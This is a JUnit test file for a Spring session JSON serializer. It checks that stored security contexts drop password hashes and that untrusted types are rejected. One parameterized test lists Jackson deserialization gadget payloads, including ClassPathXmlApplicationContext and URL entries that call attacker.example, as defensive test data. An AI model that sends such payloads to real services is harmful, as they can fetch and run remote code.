package dev.spaauth.session;

import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.jsontype.BasicPolymorphicTypeValidator;

import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.context.SecurityContextImpl;

import dev.spaauth.user.SpaAuthUser;

import static org.assertj.core.api.Assertions.assertThat;

/** Unit tests of {@link SessionJson}. */
class SessionJsonTests {

	private final SessionJson json = new SessionJson(getClass().getClassLoader(), BasicPolymorphicTypeValidator.builder());

	@Test
	void writeThenReadWhenTheSecurityContextOfALoggedInUserThenTheSamePrincipalWithoutItsPasswordHash() {
		SpaAuthUser user = new SpaAuthUser(7, "alice", "alice@example.com", List.of("ADMIN"), "{argon2}secret");
		SecurityContextImpl context = new SecurityContextImpl(
				UsernamePasswordAuthenticationToken.authenticated(user, null, user.getAuthorities()));

		byte[] stored = this.json.write(context);
		Object read = this.json.read(stored);

		assertThat(new String(stored, StandardCharsets.UTF_8)).startsWith("{")
			.contains("\"username\":\"alice\"")
			.doesNotContain("argon2")
			.doesNotContain("passwordHash");
		assertThat(read).isInstanceOf(SecurityContextImpl.class);
		SpaAuthUser principal = (SpaAuthUser) ((SecurityContextImpl) read).getAuthentication().getPrincipal();
		assertThat(principal.getId()).isEqualTo(7);
		assertThat(principal.getEmail()).isEqualTo("alice@example.com");
		assertThat(principal.getRoles()).containsExactly("ADMIN", "USER");
		assertThat(principal.getPassword()).isNull();
		assertThat(((SecurityContextImpl) read).getAuthentication().getAuthorities()).extracting(Object::toString)
			.containsExactly("ROLE_ADMIN", "ROLE_USER");
	}

	@Test
	void writeThenReadWhenStringsAndEpochMillisThenThemselves() {
		assertThat(this.json.read(this.json.write("a token"))).isEqualTo("a token");
		assertThat(this.json.read(this.json.write(1_765_000_000_000L))).isEqualTo(1_765_000_000_000L);
	}

	@Test
	void writeThenReadWhenAMapOfSessionDataAsRedisPublishesItThenTheSameMap() {
		Map<String, Object> delta = new HashMap<>();
		delta.put("creationTime", 1_765_000_000_000L);
		delta.put("maxInactiveInterval", 1800);
		delta.put("sessionAttr:dev.spaauth.userAgent", "Chrome");

		assertThat(this.json.read(this.json.write(delta))).isEqualTo(delta);
	}

	@Test
	void readWhenJavaSerializedBytesThenAbsentNotAnObject() throws Exception {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
			out.writeObject(new SpaAuthUser(1, "bob", "bob@example.com", List.of(), null));
		}

		assertThat(this.json.read(bytes.toByteArray())).isNull();
	}

	@ParameterizedTest
	@ValueSource(strings = { "[\"java.net.URL\",\"http://attacker.example/\"]",
			"{\"@class\":\"java.util.logging.FileHandler\",\"pattern\":\"/tmp/x\"}",
			"[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://attacker.example/x.xml\"]" })
	void readWhenATypeOffTheAllowListThenAbsentAndNothingInstantiated(String stored) {
		assertThat(this.json.read(stored.getBytes(StandardCharsets.UTF_8))).isNull();
	}

}
